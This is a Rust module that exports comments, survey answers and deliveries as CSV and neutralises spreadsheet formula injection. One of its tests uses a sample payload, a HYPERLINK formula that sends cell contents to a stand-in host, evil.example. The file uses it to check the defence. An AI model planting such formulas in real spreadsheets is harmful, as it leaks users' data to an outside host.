//! CSV exports of a digest's rows — comments, survey answers, deliveries — with every cell a
//! spreadsheet would take for a formula neutralised.

use serde::Serialize;

use crate::store::{AnswerExport, CommentLine, DeliveryLine};

/// A file of `/export` (and of the dashboard's downloads), in the order they are sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFile {
    Answers,
    Comments,
    Deliveries,
}

impl ExportFile {
    pub const ALL: [ExportFile; 3] = [
        ExportFile::Answers,
        ExportFile::Comments,
        ExportFile::Deliveries,
    ];

    /// Its name in file names and addresses (`answers`).
    pub const fn name(self) -> &'static str {
        match self {
            ExportFile::Answers => "answers",
            ExportFile::Comments => "comments",
            ExportFile::Deliveries => "deliveries",
        }
    }

    pub fn parse(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|file| file.name() == name)
    }
}

/// Why an export could not be made.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("reading the rows to export")]
    Store(#[from] crate::StoreError),
    #[error("writing CSV")]
    Csv(#[from] csv::Error),
}

/// The CSV of `file` for one group (or all), from the beginning: empty when there are no rows.
/// The one code path of `/export` and of the dashboard's downloads.
pub async fn export_csv(
    store: &crate::Store,
    file: ExportFile,
    group: Option<crate::domain::GroupId>,
    now: chrono::DateTime<chrono::Utc>,
) -> Result<String, ExportError> {
    let since = chrono::DateTime::<chrono::Utc>::UNIX_EPOCH;
    Ok(match file {
        ExportFile::Answers => answers_csv(&store.export_answers(group, now).await?)?,
        ExportFile::Comments => comments_csv(&store.digest_comments(group, since, None).await?)?,
        ExportFile::Deliveries => deliveries_csv(&store.digest_deliveries(group, since).await?)?,
    })
}

/// CSV of the comments of a window (anonymous ones without their author).
pub fn comments_csv(comments: &[CommentLine]) -> Result<String, csv::Error> {
    to_csv(comments)
}

/// CSV of survey answers (anonymous surveys without respondents).
pub fn answers_csv(answers: &[AnswerExport]) -> Result<String, csv::Error> {
    to_csv(answers)
}

/// CSV of the deliveries of a window.
pub fn deliveries_csv(deliveries: &[DeliveryLine]) -> Result<String, csv::Error> {
    to_csv(deliveries)
}

/// CSV with a header row; every cell a spreadsheet would take for a formula is neutralised
/// ([`spreadsheet_safe`]): names, comments and answers are typed by anyone.
fn to_csv<T: Serialize>(rows: &[T]) -> Result<String, csv::Error> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        writer.serialize(row)?;
    }
    let bytes = writer.into_inner().map_err(|e| e.into_error())?;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes.as_slice());
    let mut safe = csv::Writer::from_writer(Vec::new());
    for record in reader.records() {
        let record = record?;
        safe.write_record(
            record
                .iter()
                .map(|cell| spreadsheet_safe(cell).into_owned()),
        )?;
    }
    let bytes = safe.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// A cell that starts like a formula (`=`, `+`, `-`, `@`, tab, carriage return — OWASP's
/// list) gets a leading `'`, so a spreadsheet shows it as text instead of running it.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(text: Option<&str>) -> CommentLine {
        CommentLine {
            id: 1,
            group: "water".into(),
            author: None,
            created_at: crate::store::parse_ts("2026-11-27T10:00:00.000000Z").unwrap(),
            post_id: None,
            post_title: None,
            text: text.map(str::to_owned),
            media_kind: None,
            duration_secs: None,
        }
    }

    /// Issue #20: formula injection — a comment `=HYPERLINK(…)` and a name `+Ana` come out as
    /// text.
    #[test]
    fn csv_cells_that_look_like_formulas_are_neutralised() {
        let mut evil = line(Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
        evil.author = Some("+Ana".into());
        let mut tab = line(Some("\t@SUM(1)"));
        tab.author = Some("-Bob".into());
        let csv = comments_csv(&[evil, tab]).unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(&rows[0][2], "'+Ana");
        assert_eq!(
            &rows[0][6],
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        );
        assert_eq!(&rows[1][2], "'-Bob");
        assert_eq!(&rows[1][6], "'\t@SUM(1)");
        assert_eq!(&rows[1][1], "water", "ordinary cells are unchanged");
        for bad in ["=1", "+1", "-1", "@x", "\tx", "\rx"] {
            assert!(spreadsheet_safe(bad).starts_with('\''));
        }
        assert_eq!(spreadsheet_safe("a=b"), "a=b");
    }

    #[test]
    fn csv_quotes_properly() {
        let csv = comments_csv(&[line(Some("He said \"no\", then\nleft"))]).unwrap();
        assert!(csv.starts_with(
            "id,group,author,created_at,post_id,post_title,text,media_kind,duration_secs\n"
        ));
        assert!(csv.contains("\"He said \"\"no\"\", then\nleft\""), "{csv}");
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[6], "He said \"no\", then\nleft");
    }
}
